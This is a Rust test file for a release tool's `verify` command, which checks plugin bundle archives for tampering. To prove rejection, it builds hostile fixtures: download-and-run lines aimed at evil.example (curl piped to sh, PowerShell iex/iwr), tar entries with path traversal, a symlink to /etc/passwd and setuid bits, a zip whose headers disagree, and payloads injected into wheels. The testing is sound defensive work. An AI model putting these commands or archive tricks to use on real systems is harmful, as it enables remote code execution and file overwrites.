//! `cargo xtask verify`: sound bundles pass (with a real offline install); damaged, hostile
//! or incomplete ones are rejected with the reason.

mod common;

use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::Command;

use sha2::Digest as _;

use common::*;

fn nightly(repo: &Repo) -> (std::path::PathBuf, std::path::PathBuf) {
    repo.xtask(&["nightly", "--platform", "linux", "--build-number", BUILD_NUMBER])
        .assert_code(0);
    let dist = repo.set_dir();
    (
        dist.join(format!("acme-plugins-{NIGHTLY}-linux.tar.bz2")),
        dist.join(format!("acme-plugins-{NIGHTLY}-sources.tar.bz2")),
    )
}

#[test]
fn a_nightly_bundle_verifies_and_installs_offline() {
    let repo = Repo::examples();
    let (linux, sources) = nightly(&repo);
    let run = repo.xtask(&["verify", &linux.to_string_lossy(), &sources.to_string_lossy()]);
    run.assert_code(0);
    for expected in [
        "sha256: checked against 2 record(s)",
        "none unsafe: yes",
        "wheel tags: 7 of 7 fit linux",
        "installed offline into a fresh venv and imported: acme_plugin_base, acme_plugin_console, acme_plugin_legacy, acme_plugin_reports",
    ] {
        assert!(run.stdout.contains(expected), "missing {expected:?} in:\n{}", run.stdout);
    }
    assert_eq!(run.stdout.matches("  OK\n").count(), 2);

    // The same checks as one JSON document, every key of it documented in README.md.
    let run = repo.xtask(&["verify", "--json", &linux.to_string_lossy(), &sources.to_string_lossy()]);
    run.assert_code(0);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("verify --json prints only JSON");
    assert_eq!(report["ok"], true);
    let targets = report["targets"].as_array().unwrap();
    assert_eq!(targets.len(), 2);
    let sums =
        fs::read_to_string(linux.with_file_name(format!("{}.sha256", linux.file_name().unwrap().to_string_lossy())))
            .unwrap();
    assert_eq!(targets[0]["path"], linux.to_string_lossy().as_ref());
    assert_eq!(
        targets[0]["sha256"].as_str().unwrap(),
        sums.split_whitespace().next().unwrap()
    );
    assert_eq!(targets[0]["size"], fs::metadata(&linux).unwrap().len());
    assert!(targets[0]["checks"]
        .as_array()
        .unwrap()
        .contains(&"wheel tags: 7 of 7 fit linux".into()));
    assert_eq!(targets[0]["problems"], serde_json::json!([]));
    assert_matches_schema(&report, "verify");
    assert_keys_documented(&report, &readme_section("## `cargo xtask verify"), "verify --json");
}

#[test]
fn a_damaged_archive_or_wrong_checksum_is_rejected() {
    let repo = Repo::examples();
    let (linux, _) = nightly(&repo);
    let mut bytes = fs::read(&linux).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0xff;
    fs::write(&linux, &bytes).unwrap();
    let run = repo.xtask(&["verify", &linux.to_string_lossy()]);
    run.assert_code(1);
    assert!(
        run.stdout.contains("but SHA256SUMS says") && run.stdout.contains("the archive is damaged or was replaced"),
        "{}",
        run.stdout
    );

    // Without checksum files, the damage is still found when reading the archive.
    let lone = tempfile::tempdir().unwrap();
    let copy = lone.path().join("acme-plugins-linux.tar.bz2");
    fs::write(&copy, &bytes[..bytes.len() / 2]).unwrap();
    let run = repo.xtask(&["verify", &copy.to_string_lossy()]);
    run.assert_code(1);
    assert!(run.stdout.contains("no .sha256 or SHA256SUMS entry"), "{}", run.stdout);
    assert!(
        run.stdout
            .contains("FAIL cannot be read: the archive is damaged or truncated"),
        "{}",
        run.stdout
    );
    let run = repo.xtask(&["verify", "--json", &copy.to_string_lossy()]);
    run.assert_code(1);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("verify --json prints only JSON");
    assert_matches_schema(&report, "verify");
    assert_eq!(report["ok"], false);
    assert_eq!(report["targets"][0]["ok"], false);
    assert_eq!(
        report["targets"][0]["problems"],
        serde_json::json!(["cannot be read: the archive is damaged or truncated"])
    );
    assert!(run.stderr.contains("verification failed"), "{}", run.stderr);
}

/// A tar entry written byte by byte, so that names the tar crate would refuse get in.
fn raw_entry(out: &mut Vec<u8>, name: &str, kind: u8, link: &str, data: &[u8]) {
    raw_entry_with_mode(out, name, kind, link, data, "0000644");
}

fn raw_entry_with_mode(out: &mut Vec<u8>, name: &str, kind: u8, link: &str, data: &[u8], mode: &str) {
    let mut header = [0u8; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..107].copy_from_slice(mode.as_bytes());
    header[108..115].copy_from_slice(b"0000000");
    header[116..123].copy_from_slice(b"0000000");
    header[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
    header[136..147].copy_from_slice(b"00000000000");
    header[156] = kind;
    header[157..157 + link.len()].copy_from_slice(link.as_bytes());
    header[257..263].copy_from_slice(b"ustar\0");
    header[263..265].copy_from_slice(b"00");
    header[148..156].copy_from_slice(b"        ");
    let sum: u32 = header.iter().map(|b| *b as u32).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    out.extend_from_slice(&header);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
}

#[test]
fn hostile_archives_are_rejected_before_anything_is_unpacked() {
    let repo = Repo::examples();
    let dir = tempfile::tempdir().unwrap();
    let mut tar = Vec::new();
    raw_entry(&mut tar, "bundle/", b'5', "", b"");
    raw_entry(&mut tar, "bundle/ok.txt", b'0', "", b"fine");
    raw_entry(&mut tar, "bundle/../../escaped.txt", b'0', "", b"evil");
    raw_entry(&mut tar, "/etc/xtask-absolute.txt", b'0', "", b"evil");
    raw_entry(&mut tar, "bundle/link", b'2', "../../../etc/passwd", b"");
    raw_entry(&mut tar, "bundle/inner-link", b'2', "ok.txt", b"");
    raw_entry(&mut tar, "bundle/device", b'3', "", b"");
    raw_entry(&mut tar, "bundle/ok.txt", b'0', "", b"again");
    raw_entry(
        &mut tar,
        "bundle/OK.txt",
        b'0',
        "",
        b"the same file on Windows and macOS",
    );
    raw_entry_with_mode(&mut tar, "bundle/install.sh", b'0', "", b"#!/bin/sh\n", "0006777");
    raw_entry(
        &mut tar,
        "bundle/sub\\name.txt",
        b'0',
        "",
        b"a backslash past the first component",
    );
    tar.extend_from_slice(&[0u8; 1024]);
    let archive = dir.path().join("hostile.tar.bz2");
    let mut encoder = bzip2::write::BzEncoder::new(fs::File::create(&archive).unwrap(), bzip2::Compression::default());
    encoder.write_all(&tar).unwrap();
    encoder.finish().unwrap();

    // Any unpacking would happen in a temporary folder under `tmp`: `..` would climb to `base`.
    let base = tempfile::tempdir().unwrap();
    let tmp = base.path().join("a/tmp");
    fs::create_dir_all(&tmp).unwrap();
    let run = repo.xtask_with(&["verify", &archive.to_string_lossy()], |c| {
        c.env("TMPDIR", &tmp);
    });
    run.assert_code(1);
    for expected in [
        "entry \"bundle/../../escaped.txt\" climbs out with `..`",
        "entry \"/etc/xtask-absolute.txt\" has an absolute path",
        "link \"bundle/link\" points outside the bundle",
        "entry \"bundle/device\" is a special file",
        "entry \"bundle/ok.txt\" appears twice",
        "entries \"bundle/ok.txt\" and \"bundle/OK.txt\" differ only in case",
        "entry \"bundle/install.sh\" has mode 6777: setuid, setgid and sticky bits are refused",
        "entry \"bundle/sub\\\\name.txt\" has a backslash in its name",
    ] {
        assert!(
            run.stdout.contains(expected),
            "missing {expected:?} in:\n{}",
            run.stdout
        );
    }
    assert!(
        !run.stdout.contains("inner-link"),
        "a link inside the bundle is fine:\n{}",
        run.stdout
    );
    assert_eq!(list_dir(&base.path().join("a")), ["tmp"], "nothing climbed out");
    assert_eq!(list_dir(&tmp), Vec::<String>::new(), "nothing was unpacked");
    assert!(!std::path::Path::new("/etc/xtask-absolute.txt").exists());
}

/// A zip that other tools unpack differently from what its central directory says: a local
/// header naming another path, or data put in front of the first entry.
#[test]
fn zips_whose_headers_disagree_are_rejected() {
    let repo = Repo::examples();
    let dir = tempfile::tempdir().unwrap();
    let zip_of = |junk: &[u8]| {
        let mut bytes = std::io::Cursor::new(junk.to_vec());
        bytes.set_position(junk.len() as u64);
        let mut zip = zip::ZipWriter::new(bytes);
        let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        zip.add_directory("bundle/", stored).unwrap();
        zip.start_file("bundle/a/evil.txt", stored).unwrap();
        zip.write_all(b"evil").unwrap();
        zip.finish().unwrap().into_inner()
    };
    // The local header (first) names ../../../evil.txt; the central directory bundle/a/evil.txt.
    let mut renamed = zip_of(b"");
    let at = renamed.windows(17).position(|w| w == b"bundle/a/evil.txt").unwrap();
    renamed[at..at + 17].copy_from_slice(b"../../../evil.txt");
    let renamed_path = dir.path().join("renamed.zip");
    fs::write(&renamed_path, renamed).unwrap();
    let junk_path = dir.path().join("junk.zip");
    fs::write(&junk_path, zip_of(&[0x5a; 32 * 1024])).unwrap();

    for (path, expected) in [
        (
            &renamed_path,
            "entry \"bundle/a/evil.txt\": its local header names \"../../../evil.txt\", which other tools unpack instead",
        ),
        (&junk_path, "32768 byte(s) before the first entry"),
    ] {
        let run = repo.xtask(&["verify", &path.to_string_lossy()]);
        run.assert_code(1);
        assert!(run.stdout.contains(expected), "missing {expected:?} in:\n{}", run.stdout);
    }
    assert_eq!(
        list_dir(dir.path()),
        ["junk.zip", "renamed.zip"],
        "nothing was unpacked"
    );
}

#[test]
fn misfit_wheels_and_missing_dependencies_are_named() {
    let repo = Repo::examples();
    let (linux, _) = nightly(&repo);
    let out = tempfile::tempdir().unwrap();
    run_ok(Command::new("tar").arg("xjf").arg(&linux).arg("-C").arg(out.path()));
    let bundle = out.path().join(format!("acme-plugins-{NIGHTLY}-linux"));
    let manifest_path = bundle.join("manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_str(&fs::read_to_string(&manifest_path).unwrap()).unwrap();

    // Take tabulate out; put a Windows-only wheel in (listed truthfully).
    let tabulate = "tabulate-0.9.0-py3-none-any.whl";
    fs::remove_file(bundle.join(tabulate)).unwrap();
    let windows = fake_wheel(&bundle, "winonly", "1.0", "winonly", "", &[]);
    let windows_name = "winonly-1.0-cp311-cp311-win_amd64.whl";
    fs::rename(&windows, bundle.join(windows_name)).unwrap();
    let bytes = fs::read(bundle.join(windows_name)).unwrap();
    let sha = run_ok(Command::new("sha256sum").arg(bundle.join(windows_name)));
    let files = manifest["files"].as_array_mut().unwrap();
    files.retain(|f| f["file"] != tabulate);
    files.push(serde_json::json!({
        "file": "ghost-1.0-py3-none-any.whl", "name": "ghost", "version": "1.0",
        "sha256": "0".repeat(64), "size": 1, "origin": "public", "license": null
    }));
    files.push(serde_json::json!({
        "file": windows_name, "name": "winonly", "version": "1.0",
        "sha256": String::from_utf8_lossy(&sha.stdout).split_whitespace().next().unwrap(),
        "size": bytes.len(), "origin": "public", "license": null
    }));
    fs::write(&manifest_path, serde_json::to_string(&manifest).unwrap()).unwrap();
    // And pin pluggy by a hash that is not its wheel's.
    let requirements = bundle.join("requirements.txt");
    let pins = fs::read_to_string(&requirements).unwrap();
    let pins: Vec<String> = pins
        .lines()
        .map(|l| match l.starts_with("pluggy==") {
            true => format!(
                "{} --hash=sha256:{}",
                l.split_whitespace().next().unwrap(),
                "0".repeat(64)
            ),
            false => l.to_string(),
        })
        .collect();
    fs::write(&requirements, pins.join("\n")).unwrap();

    let run = repo.xtask(&["verify", &bundle.to_string_lossy()]);
    run.assert_code(1);
    assert!(
        run.stdout
            .contains(&format!("{windows_name} does not fit platform linux")),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!(
            "acme-plugin-reports {NIGHTLY} requires \"tabulate>=0.9\" on linux, which the bundle lacks"
        )),
        "{}",
        run.stdout
    );
    // requirements.txt was left as built: it still pins tabulate and does not pin winonly.
    for expected in [
        "requirements.txt pins tabulate==0.9.0, which the bundle lacks",
        "ghost-1.0-py3-none-any.whl is listed in manifest.json but missing",
        "offline install: not tried (the checks above failed)",
        "requirements.txt does not pin pluggy-1.5.0-py3-none-any.whl by its sha256",
        "requirements.txt does not pin winonly==1.0 (winonly-1.0-cp311-cp311-win_amd64.whl)",
    ] {
        assert!(
            run.stdout.contains(expected),
            "missing {expected:?} in:\n{}",
            run.stdout
        );
    }
}

#[test]
fn signed_archives_verify_and_a_wrong_signature_is_caught() {
    let repo = Repo::bare_examples();
    repo.write(
        "release-config.toml",
        &repo
            .read("release-config.toml")
            .replacen("[release]\n", "[release]\nsign-artifacts = true\n", 1),
    );
    repo.commit("fixture: signed artifacts");
    let gnupg = tempfile::tempdir().unwrap();
    // A part that `merge` signs later needs no key: --no-sign signs nothing.
    repo.xtask_with(
        &[
            "nightly",
            "--platform",
            "linux",
            "--build-number",
            BUILD_NUMBER,
            "--no-sign",
        ],
        |c| {
            c.env("GNUPGHOME", gnupg.path());
        },
    )
    .assert_code(0);
    let unsigned = list_dir(&repo.set_dir());
    assert!(
        unsigned.contains(&"SHA256SUMS".to_string()) && !unsigned.iter().any(|f| f.ends_with(".asc")),
        "{unsigned:?}"
    );
    fs::remove_dir_all(repo.path().join("dist")).unwrap();
    gpg_add_key(gnupg.path());
    let release_bot = fingerprint(gnupg.path(), "release-bot@example.com");
    let unsigned_manifest = repo.read("release-config.toml");
    let signed_by = |signers: &str| {
        unsigned_manifest.replacen(
            "sign-artifacts = true\n",
            &format!("sign-artifacts = true\nsigners = [{signers}]\n"),
            1,
        )
    };
    repo.write("release-config.toml", &signed_by(&format!("\"{release_bot}\"")));
    repo.commit("fixture: the release bot signs");
    let with_key = |c: &mut Command| {
        c.env("GNUPGHOME", gnupg.path());
    };
    repo.xtask_with(
        &["nightly", "--platform", "linux", "--build-number", BUILD_NUMBER],
        with_key,
    )
    .assert_code(0);
    let dist = repo.set_dir();
    let linux = dist.join(format!("acme-plugins-{NIGHTLY}-linux.tar.bz2"));
    for signed in [
        format!("acme-plugins-{NIGHTLY}-linux.tar.bz2"),
        format!("acme-plugins-{NIGHTLY}-sources.tar.bz2"),
        "SHA256SUMS".into(),
    ] {
        let asc = dist.join(format!("{signed}.asc"));
        assert!(
            fs::read_to_string(&asc)
                .unwrap()
                .starts_with("-----BEGIN PGP SIGNATURE-----"),
            "{signed}.asc is ASCII-armoured"
        );
        let check = Command::new("gpg")
            .env("GNUPGHOME", gnupg.path())
            .args(["--batch", "--verify"])
            .arg(&asc)
            .arg(dist.join(&signed))
            .output()
            .unwrap();
        assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
    }
    let run = repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key);
    run.assert_code(0);
    assert!(
        run.stdout
            .contains(&format!("signature of acme-plugins-{NIGHTLY}-linux.tar.bz2: good"))
            && run.stdout.contains("signature of SHA256SUMS: good"),
        "{}",
        run.stdout
    );

    // A signature of another file does not pass.
    fs::copy(
        dist.join("SHA256SUMS.asc"),
        dist.join(format!("acme-plugins-{NIGHTLY}-linux.tar.bz2.asc")),
    )
    .unwrap();
    let run = repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key);
    run.assert_code(1);
    assert!(
        run.stdout
            .contains(&format!("signature of acme-plugins-{NIGHTLY}-linux.tar.bz2: BAD"))
            && run.stdout.contains("does not match"),
        "{}",
        run.stdout
    );

    // A valid signature by another key of the keyring proves nothing.
    let asc = dist.join(format!("acme-plugins-{NIGHTLY}-linux.tar.bz2.asc"));
    gpg_add_key_for(gnupg.path(), "Mallory <mallory@example.com>");
    let mallory = fingerprint(gnupg.path(), "mallory@example.com");
    detach_sign(gnupg.path(), &mallory, &linux, &asc);
    let run = repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key);
    run.assert_code(1);
    assert!(
        run.stdout.contains(&format!(
            "signature of acme-plugins-{NIGHTLY}-linux.tar.bz2: NOT TRUSTED"
        )) && run.stdout.contains(&format!(
            "is signed by {mallory}, which [release] signers in release-config.toml does not name"
        )),
        "{}",
        run.stdout
    );

    // Without [release] signers no signature is trusted, not even the release bot's.
    detach_sign(gnupg.path(), &release_bot, &linux, &asc);
    repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key)
        .assert_code(0);
    repo.write("release-config.toml", &unsigned_manifest);
    let run = repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key);
    run.assert_code(1);
    assert!(
        run.stdout
            .contains("but [release] signers in release-config.toml names no key"),
        "{}",
        run.stdout
    );

    // A stripped signature is missed when the manifest signs artifacts or it is asked for.
    repo.write("release-config.toml", &signed_by(&format!("\"{release_bot}\"")));
    fs::remove_file(&asc).unwrap();
    let run = repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key);
    run.assert_code(1);
    assert!(
        run.stdout
            .contains(".tar.bz2.asc is missing: the archive must be signed"),
        "{}",
        run.stdout
    );
    repo.write(
        "release-config.toml",
        &unsigned_manifest.replacen("sign-artifacts = true\n", "", 1),
    );
    repo.xtask_with(&["verify", &linux.to_string_lossy()], with_key)
        .assert_code(0);
    repo.xtask_with(&["verify", "--require-signature", &linux.to_string_lossy()], with_key)
        .assert_code(1);

    // A fingerprint is checked when the manifest is read.
    repo.write("release-config.toml", &signed_by("\"release-bot@example.com\""));
    let run = repo.xtask(&["verify", &linux.to_string_lossy()]);
    run.assert_code(2);
    assert!(run.stderr.contains("is not a key fingerprint"), "{}", run.stderr);
}

/// Sign `file` with the key `fingerprint` of the keyring at `home`, into `asc` (replaced).
fn detach_sign(home: &Path, fingerprint: &str, file: &Path, asc: &Path) {
    run_ok(
        Command::new("gpg")
            .env("GNUPGHOME", home)
            .args([
                "--batch",
                "--yes",
                "--armor",
                "--local-user",
                fingerprint,
                "--detach-sign",
                "--output",
            ])
            .arg(asc)
            .arg(file),
    );
}

/// The fingerprint of the key of `email` in the keyring at `home`.
fn fingerprint(home: &Path, email: &str) -> String {
    let out = Command::new("gpg")
        .env("GNUPGHOME", home)
        .args(["--batch", "--with-colons", "--list-keys", email])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text.lines().find(|l| l.starts_with("fpr:")).expect("a key");
    line.split(':').nth(9).unwrap().to_string()
}

#[test]
fn a_plugin_that_imports_its_host_application_can_skip_only_the_import() {
    let repo = Repo::bare_examples();
    let init = "plugins/acme-plugin-reports/src/acme_plugin_reports/__init__.py";
    repo.write(
        init,
        &format!(
            "import acme_host_application  # the product, not on any index\n{}",
            repo.read(init)
        ),
    );
    // A plugin in a namespace package: imported as acme.ns_tools, not as nothing.
    repo.write(
        "plugins/acme-ns-tools/pyproject.toml",
        "[build-system]\nrequires = [\"setuptools>=69\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
         [project]\nname = \"acme.ns-tools\"\nversion = \"3.0.0\"\ndescription = \"Tools in the acme namespace\"\n\n\
         [tool.setuptools.packages.find]\nwhere = [\"src\"]\n",
    );
    repo.write(
        "plugins/acme-ns-tools/src/acme/ns_tools/__init__.py",
        "__version__ = \"3.0.0\"\n",
    );
    repo.commit("fixture: a plugin importing its host application; a namespace package");
    let (linux, _) = nightly(&repo);
    let run = repo.xtask(&["verify", &linux.to_string_lossy()]);
    run.assert_code(1);
    assert!(
        format!("{}{}", run.stdout, run.stderr).contains("No module named 'acme_host_application'"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );

    let manifest = repo.read("release-config.toml");
    repo.write(
        "release-config.toml",
        &format!("{manifest}\n[plugin.acme-plugin-reports]\nverify-import = false\n"),
    );
    repo.commit("fixture: do not import acme-plugin-reports");
    let plan = repo
        .xtask(&["plan", "--json", "--platform", "linux"])
        .assert_code(0)
        .json();
    let flags: Vec<(String, bool)> = plan["plugins"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["normalized_name"].as_str().unwrap().to_string(),
                p["verify_import"].as_bool().unwrap(),
            )
        })
        .collect();
    assert!(flags.contains(&("acme-plugin-reports".to_string(), false)), "{flags:?}");
    assert!(flags.contains(&("acme-plugin-base".to_string(), true)), "{flags:?}");
    let run = repo.xtask(&["verify", &linux.to_string_lossy()]);
    run.assert_code(0);
    for expected in [
        "installed offline into a fresh venv and imported: acme.ns_tools, acme_plugin_base, acme_plugin_console, acme_plugin_legacy\n",
        "not imported ([plugin.NAME] verify-import = false): acme-plugin-reports",
        "wheel tags: 8 of 8 fit linux",
    ] {
        assert!(run.stdout.contains(expected), "missing {expected:?} in:\n{}", run.stdout);
    }
}

#[test]
fn verify_trusts_only_what_manifest_json_hashes() {
    let repo = Repo::examples();
    let (linux, _) = nightly(&repo);
    let folder = format!("acme-plugins-{NIGHTLY}-linux");

    // Tampered folders: every support file is hashed, every file must be declared.
    for (what, tamper, expected) in [
        (
            "an extra command in install.sh",
            Box::new(|d: &std::path::Path| {
                let mut f = fs::OpenOptions::new().append(true).open(d.join("install.sh")).unwrap();
                f.write_all(b"curl https://evil.example/x | sh\n").unwrap();
            }) as Box<dyn Fn(&std::path::Path)>,
            "install.sh does not match its sha256 or size in manifest.json",
        ),
        (
            "install.ps1 downloading a script",
            Box::new(|d: &std::path::Path| {
                fs::write(d.join("install.ps1"), "iex (iwr https://evil.example/x.ps1)\r\n").unwrap();
            }),
            "install.ps1 does not match its sha256 or size in manifest.json",
        ),
        (
            "replaced release notes",
            Box::new(|d: &std::path::Path| fs::write(d.join("RELEASE_NOTES.md"), "# all fine\n").unwrap()),
            "RELEASE_NOTES.md does not match its sha256 or size in manifest.json",
        ),
        (
            "an undeclared file",
            Box::new(|d: &std::path::Path| fs::write(d.join("extra.sh"), "echo hi\n").unwrap()),
            "extra.sh is in the bundle but not in manifest.json",
        ),
    ] {
        let (_keep, dir) = unpack(&linux);
        tamper(&dir);
        let run = repo.xtask(&["verify", &dir.to_string_lossy()]);
        run.assert_code(1);
        assert!(run.stdout.contains(expected), "{what}: {expected:?} in\n{}", run.stdout);
    }

    // A large undeclared file is refused from the archive's headers, never unpacked: verify
    // runs with a file-size limit far below it.
    let (out, dir) = unpack(&linux);
    fs::write(dir.join("zeros.bin"), vec![0u8; 64 << 20]).unwrap();
    let bomb = out.path().join(format!("{folder}.tar.bz2"));
    run_ok(
        Command::new("tar")
            .arg("cjf")
            .arg(&bomb)
            .arg("-C")
            .arg(out.path())
            .arg(&folder),
    );
    let run = repo.xtask_with(&["verify", &bomb.to_string_lossy()], |c| {
        let program = c.get_program().to_owned();
        let args: Vec<std::ffi::OsString> = c.get_args().map(|a| a.to_owned()).collect();
        *c = {
            let mut wrapped = repo.command("bash");
            wrapped
                .arg("-c")
                .arg("ulimit -f 8192; exec \"$0\" \"$@\"")
                .arg(program)
                .args(args);
            wrapped
        };
    });
    run.assert_code(1);
    assert!(
        run.stdout.contains(
            "zeros.bin is in the archive but manifest.json does not declare it (67108864 bytes; not unpacked)"
        ),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
}

/// A plugin wheel changed after its build, in a bundle re-hashed to match (manifest.json and
/// requirements.txt), unsigned: verify proves every wheel against its RECORD and METADATA
/// before anything installs or imports it, so the changed code never runs.
#[test]
fn a_wheel_changed_after_its_build_is_refused_before_its_code_runs() {
    let repo = Repo::examples();
    let (linux, _) = nightly(&repo);
    let marker = tempfile::tempdir().unwrap();
    let ran = marker.path().join("ran");
    let payload = format!("\nopen({:?}, 'w').write('the payload ran')\n", ran.to_str().unwrap());
    let cases: [(&str, Box<Change>, String); 3] = [
        (
            "code changed, RECORD not",
            Box::new(|dir: &Path, wheel: &str| {
                rewrite_wheel(&dir.join(wheel), "acme_plugin_base/__init__.py", |text| {
                    text.extend_from_slice(payload.as_bytes())
                });
                rehash(dir, wheel);
            }),
            "acme_plugin_base/__init__.py does not match its RECORD hash or size: the wheel was changed after it was built"
                .to_string(),
        ),
        (
            "a file RECORD does not list",
            Box::new(|dir: &Path, wheel: &str| {
                add_to_wheel(&dir.join(wheel), "acme_plugin_base_hook.pth", b"import os\n");
                rehash(dir, wheel);
            }),
            "acme_plugin_base_hook.pth is not listed in its RECORD".to_string(),
        ),
        (
            "manifest.json lies about the version",
            Box::new(|dir: &Path, wheel: &str| {
                let path = dir.join("manifest.json");
                let mut manifest: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
                for f in manifest["files"].as_array_mut().unwrap() {
                    if f["file"] == wheel {
                        f["version"] = "9.9.9".into();
                    }
                }
                fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
            }),
            format!("its METADATA says acme-plugin-base {NIGHTLY}, but manifest.json says acme-plugin-base 9.9.9"),
        ),
    ];
    for (what, change, expected) in cases {
        let (_keep, dir) = unpack(&linux);
        let wheel = format!("acme_plugin_base-{NIGHTLY}-py3-none-any.whl");
        change(&dir, &wheel);
        let run = repo.xtask(&["verify", &dir.to_string_lossy()]);
        run.assert_code(1);
        assert!(
            run.stdout.contains(&format!("{wheel}: {expected}")),
            "{what}: {expected:?} in\n{}",
            run.stdout
        );
        assert!(
            run.stdout
                .contains("offline install: not tried (the checks above failed)"),
            "{what}:\n{}",
            run.stdout
        );
        assert!(!ran.exists(), "{what}: the wheel's code ran during verify");
    }
}

/// A change made to a bundle folder, given the wheel it is about.
type Change<'a> = dyn Fn(&Path, &str) + 'a;

/// Replace one member of a wheel, changing its bytes with `change`; RECORD is left alone.
fn rewrite_wheel(wheel: &Path, member: &str, change: impl Fn(&mut Vec<u8>)) {
    copy_wheel(wheel, |name, bytes| {
        if name == member {
            change(bytes);
        }
    });
}

/// Add a member to a wheel; RECORD is left alone.
fn add_to_wheel(wheel: &Path, member: &str, bytes: &[u8]) {
    copy_wheel(wheel, |_, _| {});
    let mut zip =
        zip::ZipWriter::new_append(fs::OpenOptions::new().read(true).write(true).open(wheel).unwrap()).unwrap();
    zip.start_file(member, zip::write::SimpleFileOptions::default())
        .unwrap();
    zip.write_all(bytes).unwrap();
    zip.finish().unwrap();
}

/// Rewrite a wheel member by member through `each`.
fn copy_wheel(wheel: &Path, each: impl Fn(&str, &mut Vec<u8>)) {
    let mut zip = zip::ZipArchive::new(fs::File::open(wheel).unwrap()).unwrap();
    let mut members = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap();
        each(&name, &mut bytes);
        members.push((name, bytes));
    }
    let mut out = zip::ZipWriter::new(fs::File::create(wheel).unwrap());
    for (name, bytes) in members {
        out.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(&bytes).unwrap();
    }
    out.finish().unwrap();
}

/// What an attacker does after changing a file of a bundle: its sha256 and size in
/// manifest.json and its hash in requirements.txt made to match.
fn rehash(dir: &Path, file: &str) {
    let bytes = fs::read(dir.join(file)).unwrap();
    let sha256: String = sha2::Sha256::digest(&bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    let path = dir.join("manifest.json");
    let mut manifest: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    let entry = manifest["files"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|f| f["file"] == file)
        .unwrap();
    let old = entry["sha256"].as_str().unwrap().to_string();
    entry["sha256"] = sha256.clone().into();
    entry["size"] = bytes.len().into();
    let requirements = fs::read_to_string(dir.join("requirements.txt")).unwrap();
    assert!(requirements.contains(&old), "requirements.txt pins {file} by {old}");
    let requirements = requirements.replace(&old, &sha256);
    fs::write(dir.join("requirements.txt"), &requirements).unwrap();
    let support = manifest["support"].as_array_mut().unwrap();
    let entry = support.iter_mut().find(|f| f["file"] == "requirements.txt").unwrap();
    entry["sha256"] = sha2::Sha256::digest(requirements.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<String>()
        .into();
    entry["size"] = requirements.len().into();
    fs::write(&path, serde_json::to_string_pretty(&manifest).unwrap()).unwrap();
}

/// The plugins' code runs last, after every proof, in a throwaway HOME with no network, and
/// every import that fails is named in the one run.
#[test]
fn imports_run_without_home_or_network_and_every_failure_is_named() {
    let repo = Repo::bare_examples();
    let marker = tempfile::tempdir().unwrap();
    let said = marker.path().join("said");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let base = "plugins/acme-plugin-base/src/acme_plugin_base/__init__.py";
    repo.write(
        base,
        &format!(
            "import pathlib, socket\n\
             (pathlib.Path.home() / 'acme-was-here').write_text('x')\n\
             try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n    net = 'connected'\n\
             except OSError:\n    net = 'no network'\n\
             pathlib.Path({said:?}).write_text(f'{{pathlib.Path.home()}}\\n{{net}}')\n{}",
            repo.read(base),
            said = said.to_str().unwrap(),
        ),
    );
    let reports = "plugins/acme-plugin-reports/src/acme_plugin_reports/__init__.py";
    repo.write(
        reports,
        &format!("import acme_host_application\n{}", repo.read(reports)),
    );
    let console = "plugins/acme-plugin-console/src/acme_plugin_console/__init__.py";
    repo.write(
        console,
        &format!("raise RuntimeError('needs a terminal')\n{}", repo.read(console)),
    );
    repo.commit("fixture: plugins that write HOME, reach the network, fail to import");
    let (linux, _) = nightly(&repo);

    let run = repo.xtask(&["verify", &linux.to_string_lossy()]);
    run.assert_code(1);
    for expected in [
        "install and import: throwaway HOME, XDG folders and TMPDIR; no network (unshare -rn)",
        "installed offline into a fresh venv; 2 of 4 import(s) failed",
        "import of acme_plugin_console: RuntimeError: needs a terminal",
        "import of acme_plugin_reports: ModuleNotFoundError: No module named 'acme_host_application'",
    ] {
        assert!(
            run.stdout.contains(expected),
            "missing {expected:?} in:\n{}",
            run.stdout
        );
    }
    let said = fs::read_to_string(&said).expect("acme_plugin_base was imported");
    let (home, net) = said.split_once('\n').unwrap();
    assert_eq!(net, "no network", "{said}");
    let real_home = std::env::var("HOME").unwrap();
    assert_ne!(home, real_home);
    assert!(!Path::new(home).exists(), "the throwaway HOME {home} is removed");
    assert!(!Path::new(&real_home).join("acme-was-here").exists());
    drop(listener);
}

/// A bundle cannot pass for another: its archive's name and folder are those the manifest's
/// archive-name gives the release, version and platform its manifest.json claims.
#[test]
fn an_archive_named_for_another_release_is_refused() {
